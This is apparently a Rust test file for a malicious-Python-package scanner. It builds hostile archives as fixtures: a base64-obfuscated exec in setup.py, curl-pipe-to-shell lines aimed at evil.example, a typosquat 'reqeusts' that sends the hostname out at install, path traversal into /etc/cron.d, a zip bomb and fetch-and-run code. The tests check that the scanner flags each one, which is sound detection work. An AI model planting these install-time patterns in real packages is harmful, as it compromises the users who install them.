//! The pipeline end to end on archives built here: every archive kind, hostile archives,
//! and the report contract.

use std::io::Write;

use malpi_rules::{RuleId, VerdictKind};
use malpi_scan::{Limits, PackageInfo, PackageKind, Report, ScanOptions, scan_bytes};

const EVIL_SETUP: &str = "import base64\nfrom setuptools import setup\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nsetup(name='evil')\n";
const HONEST_SETUP: &str = "from setuptools import setup\nsetup(name='honest', version='1.0')\n";

fn targz(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        // set_path refuses "..": write the raw name so hostile paths can be built.
        let name = path.as_bytes();
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    let tar = b.into_inner().unwrap();
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&tar).unwrap();
    gz.finish().unwrap()
}

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, data) in members {
        w.start_file(*path, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn scan(file: &str, bytes: &[u8]) -> Report {
    scan_bytes(
        PackageInfo::new(file.into(), PackageKind::File),
        bytes,
        &ScanOptions::default(),
    )
}

#[test]
fn malicious_sdist_is_explained_down_to_the_line() {
    let r = scan(
        "/x/evil-0.1.tar.gz",
        &targz(&[
            ("evil-0.1/setup.py", EVIL_SETUP.as_bytes()),
            (
                "evil-0.1/PKG-INFO",
                b"Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n",
            ),
        ]),
    );
    assert_eq!(r.verdict, VerdictKind::Malicious, "{r:#?}");
    assert_eq!(r.package.kind, PackageKind::Sdist);
    assert_eq!(
        (r.package.name.as_str(), r.package.version.as_str()),
        ("evil", "0.1")
    );
    assert_eq!(r.package.sha256.len(), 64);
    let f = r
        .findings
        .iter()
        .find(|f| f.rule == RuleId::Exe001)
        .expect("EXE001");
    assert_eq!((f.path.as_str(), f.line), ("evil-0.1/setup.py", 3));
    assert!(f.snippet.contains("b64decode"));
    assert_eq!(f.trigger, Some(malpi_python::Trigger::Install));
    assert!(!r.reasons.is_empty());
}

#[test]
fn honest_sdist_is_clean() {
    let r = scan(
        "/x/honest-1.0.tar.gz",
        &targz(&[
            ("honest-1.0/setup.py", HONEST_SETUP.as_bytes()),
            (
                "honest-1.0/honest/__init__.py",
                b"import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd)\n",
            ),
        ]),
    );
    assert_eq!(r.verdict, VerdictKind::Clean, "{r:#?}");
    assert!(r.iocs.is_empty());
}

#[test]
fn wheel_named_tar_gz_is_read_as_wheel_and_pth_found() {
    let r = scan(
        "/x/w-1.0.tar.gz",
        &zip(&[
            ("w/__init__.py", b""),
            ("w-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
            (
                "w-1.0.pth",
                b"import os; os.system('curl -s https://evil.example/x | sh')\n",
            ),
        ]),
    );
    assert_eq!(r.package.kind, PackageKind::Wheel);
    assert!(
        r.findings.iter().any(|f| f.rule == RuleId::Tec001),
        "{r:#?}"
    );
    assert_eq!(r.verdict, VerdictKind::Malicious);
    assert!(
        r.iocs
            .iter()
            .any(|i| i.kind == "domain" && i.value == "evil.example"),
        "{:?}",
        r.iocs
    );
}

#[test]
fn path_traversal_member_is_a_finding() {
    let r = scan(
        "/x/t-1.0.tar.gz",
        &targz(&[
            ("t-1.0/setup.py", HONEST_SETUP.as_bytes()),
            ("../../etc/cron.d/x", b"* * * * * root id\n"),
        ]),
    );
    assert!(
        r.findings.iter().any(|f| f.rule == RuleId::Pkg002),
        "{r:#?}"
    );
}

#[test]
fn zip_bomb_trips_a_limit_with_a_finding_and_an_error() {
    let zeros = vec![0u8; 8 << 20];
    let bytes = zip(&[
        ("b/setup.py", HONEST_SETUP.as_bytes()),
        ("b/data.bin", &zeros),
    ]);
    let limits = Limits {
        max_member_bytes: 1 << 20,
        ..Limits::default()
    };
    let r = scan_bytes(
        PackageInfo::new("/x/b.zip".into(), PackageKind::File),
        &bytes,
        &ScanOptions {
            limits,
            ..ScanOptions::default()
        },
    );
    assert!(
        r.findings.iter().any(|f| f.rule == RuleId::Pkg001),
        "{r:#?}"
    );
    assert!(!r.errors.is_empty());
    assert_ne!(r.verdict, VerdictKind::Error);
}

#[test]
fn empty_and_garbage_inputs_are_error_reports() {
    let r = scan("/x/empty.tar.gz", b"");
    assert_eq!(r.verdict, VerdictKind::Error);
    assert!(r.errors[0].contains("empty"));
    let r = scan("/x/garbage.tar.gz", &[0x1f, 0x8b, 8, 0, 1, 2, 3]);
    assert!(
        matches!(r.verdict, VerdictKind::Error | VerdictKind::Clean),
        "{r:#?}"
    );
    assert!(!r.errors.is_empty());
}

#[test]
fn bare_python_file_and_python2_are_analysed() {
    let r = scan(
        "/x/setup.py",
        b"import os\nprint \"py2\"\nos.system('curl http://evil.example/a | bash')\n",
    );
    assert_eq!(r.package.kind, PackageKind::File);
    assert_eq!(r.verdict, VerdictKind::Malicious, "{r:#?}");
}

#[test]
fn shipped_executable_is_reported() {
    let r = scan(
        "/x/e-1.0.tar.gz",
        &targz(&[
            ("e-1.0/setup.py", HONEST_SETUP.as_bytes()),
            ("e-1.0/e/tool.exe", b"MZ\x90\x00rest of a PE file"),
        ]),
    );
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == RuleId::Pkg003 && f.path.ends_with("tool.exe")),
        "{r:#?}"
    );
}

#[test]
fn unpacked_folder_is_scanned_and_setup_py_runs_at_install() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("setup.py"), EVIL_SETUP).unwrap();
    let r = malpi_scan::scan_path(dir.path(), &ScanOptions::default());
    assert_eq!(r.package.kind, PackageKind::Dir);
    assert_eq!(r.verdict, VerdictKind::Malicious, "{r:#?}");
}

#[test]
fn a_squatting_name_is_suspicious_alone_and_malicious_with_install_code() {
    // setup.py sends the host name at install: weak alone, decisive under a squatting name.
    let setup = b"import socket, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://collect.example/' + socket.gethostname())\nsetup(name='x')\n";
    let empty = b"from setuptools import setup\nsetup(name='x')\n";
    let sdist = |name: &str, setup: &[u8]| {
        let meta = format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n");
        targz(&[
            (&format!("{name}-1.0/setup.py"), setup),
            (&format!("{name}-1.0/PKG-INFO"), meta.as_bytes()),
        ])
    };
    let squat_alone = scan("/x/reqeusts-1.0.tar.gz", &sdist("reqeusts", empty));
    assert_eq!(squat_alone.verdict, VerdictKind::Suspicious);
    assert!(
        squat_alone
            .findings
            .iter()
            .any(|f| f.rule == RuleId::Pkg004)
    );
    assert_eq!(squat_alone.metadata.as_ref().unwrap().name, "reqeusts");
    let squat_with_code = scan("/x/reqeusts-1.0.tar.gz", &sdist("reqeusts", setup));
    assert_eq!(squat_with_code.verdict, VerdictKind::Malicious);
    let honest_name = scan("/x/requests-1.0.tar.gz", &sdist("requests", empty));
    assert!(
        honest_name
            .findings
            .iter()
            .all(|f| f.rule != RuleId::Pkg004)
    );
}

#[test]
fn a_working_copy_of_the_imitated_project_with_code_added_is_named() {
    let mut members: Vec<(String, Vec<u8>)> = (0..6)
        .map(|i| {
            (
                format!("reqeusts-1.0/requests/m{i}.py"),
                b"def f():\n    return 1\n".to_vec(),
            )
        })
        .collect();
    members.push((
        "reqeusts-1.0/requests/__init__.py".into(),
        b"import os\nos.system('curl -s http://x.example/a -o /tmp/a && sh /tmp/a')\n".to_vec(),
    ));
    members.push((
        "reqeusts-1.0/PKG-INFO".into(),
        b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0\n".to_vec(),
    ));
    let refs: Vec<(&str, &[u8])> = members
        .iter()
        .map(|(p, d)| (p.as_str(), d.as_slice()))
        .collect();
    let r = scan("/x/reqeusts-1.0.tar.gz", &targz(&refs));
    assert!(
        r.findings.iter().any(|f| f.rule == RuleId::Tec012),
        "{:?}",
        r.findings
    );
    assert_eq!(r.verdict, VerdictKind::Malicious);
    assert!(r.techniques.iter().any(|t| t == "behaviour-overlap"));
}

/// A buildout `bootstrap.py` fetches and runs an installer when someone runs it.
const FETCH_AND_RUN: &str = "from urllib.request import urlopen\nexec(urlopen('http://downloads.example.org/ez_setup.py').read())\n";

#[test]
fn a_script_beside_setup_py_of_a_src_layout_is_not_installed() {
    let sdist = |setup: &str| {
        targz(&[
            ("rater-1.0/setup.py", setup.as_bytes()),
            ("rater-1.0/bootstrap.py", FETCH_AND_RUN.as_bytes()),
            ("rater-1.0/src/rater/__init__.py", b"VERSION = '1.0'\n"),
        ])
    };
    let honest = "from setuptools import setup, find_packages\nsetup(name='rater', packages=find_packages('src'), package_dir={'': 'src'})\n";
    let r = scan("/x/rater-1.0.tar.gz", &sdist(honest));
    assert_ne!(r.verdict, VerdictKind::Malicious, "{:#?}", r.reasons);
    let exec = r.findings.iter().find(|f| f.rule == RuleId::Exe002);
    assert!(
        exec.is_some_and(|f| f.auxiliary && f.trigger == Some(malpi_python::Trigger::Runtime)),
        "the script is still read and reported: {exec:#?}"
    );
    // Near miss: setup.py runs the script, so its code runs at install.
    let runs_it = format!("import bootstrap\n{honest}");
    let r = scan("/x/rater-1.0.tar.gz", &sdist(&runs_it));
    assert_eq!(r.verdict, VerdictKind::Malicious, "{:#?}", r.findings);
    // Near miss: without `src/`, a module beside setup.py is installed and imported.
    let flat = targz(&[
        ("rater-1.0/setup.py", honest.as_bytes()),
        ("rater-1.0/bootstrap.py", FETCH_AND_RUN.as_bytes()),
    ]);
    let r = scan("/x/rater-1.0.tar.gz", &flat);
    assert_eq!(r.verdict, VerdictKind::Malicious, "{:#?}", r.findings);
}
